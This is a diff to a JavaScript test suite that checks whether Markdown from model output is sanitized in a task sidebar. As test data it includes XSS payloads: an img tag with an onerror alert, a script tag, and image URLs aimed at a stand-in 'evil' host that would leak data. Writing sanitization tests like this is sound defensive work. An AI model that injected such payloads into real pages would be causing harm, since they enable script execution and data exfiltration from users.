@@ -82,9 +82,10 @@ describe('Markdown from model output', () => {
 
   it('is sanitized in the sidebar itself: a hostile transcript leaves no script or remote image in the document', () => {
     const harness = mountHarness();
-    harness.send(snapshotMessage([makeTask({ id: 't1', status: 'completed', output: '<img src="https://evil/x?data" onerror="alert(1)"> [docs](https://example.com)' })]));
+    harness.send(snapshotMessage([makeTask({ id: 't1', status: 'completed' })]));
     click(harness.row('t1'));
     harness.scheduler.runFrame();
+    harness.send({ type: 'task-detail', taskId: 't1', prompt: 'p', output: '<img src="https://evil/x?data" onerror="alert(1)"> [docs](https://example.com)' });
     harness.send({ type: 'transcript', taskId: 't1', index: 0, entries: [{ type: 'text', text: '<script>alert(1)</script>![x](https://evil/x?data)' }] });
     expect(document.querySelectorAll('script')).toHaveLength(0);
     expect(Array.from(document.querySelectorAll('img')).filter((image) => !image.src.startsWith('data:'))).toHaveLength(0);
